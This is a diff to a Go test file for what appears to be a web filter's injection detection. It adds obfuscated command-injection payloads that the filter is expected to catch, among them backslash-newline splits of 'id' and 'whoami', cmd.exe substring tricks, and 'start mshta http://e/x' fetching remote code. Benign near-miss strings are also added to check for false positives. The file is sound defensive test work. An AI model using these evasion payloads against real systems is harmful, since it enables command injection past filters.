@@ -35,7 +35,12 @@ func TestShortPayloads(t *testing.T) {
 		"x & n^et user", "x & v^er", "x & c^u^r^l http://x", "x & net1 user", `x & "net" user`, "x & net.exe user", "x & call net user",
 		"x & %COMSPEC% /c ver", `x;$'\x69\x64'`, `x;i$'\x64'`,
 		// a sixth fresh-eyes attack's B14
-		"x;w$1get http://e/x", "x;wh$9oami", "x;c$''url http://e/x", "x;$'i'd", "x;w`true`get http://e/x"} {
+		"x;w$1get http://e/x", "x;wh$9oami", "x;c$''url http://e/x", "x;$'i'd", "x;w`true`get http://e/x",
+		// a seventh fresh-eyes attack's (attack 11): bash's
+		// backslash-newline, cmd.exe's substrings of nothing, a command's
+		// path, Windows' commands in upper case, start
+		"x;i\\\nd", "x;who\\\nami", "x;i\\\r\nd", "x & w%PATH:~0,0%hoami", "x & n%A:~0,0%et user", "x & %SystemRoot%\\system32\\net user",
+		"x & VER", "x & Ver", "x & start calc", `x & start "" mshta http://e/x`} {
 		jv := `"` + jsonEscape(v) + `"`
 		misses = append(misses,
 			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
@@ -118,6 +123,9 @@ func TestShortPayloads(t *testing.T) {
 		// a plural possessive before a comment (a fourth fresh-eyes attack's
 		// false positive; "the boss' /* note" the CRS alone refuses)
 		"Jones' #1 fan", "the Smiths' -- all of them", "Hello, Jones' #1 fan", "Hi, Williams' -- yes", "the Davis' --2 of them",
+		// near the seventh attack's Windows commands
+		"IP & host name", "R&D; Ver 2.0", "Q&A; start here", "Tom & start the car", "x & version", "the 50%:~0,0% mark", "a\\\nb; id card",
+		"C:\\Users\\me & notes", "A & Whoa, amazing",
 		// several words and other scripts before a quote (F5's near misses)
 		"Jürgen's #1 fan", "the Müllers' -- all of them", "rock 'n' roll -- yes", "he said 'hi' -- then left", "Café 'Zum Löwen' #3",
 		// Markdown tables, inline code, line lists and prose (a fifth
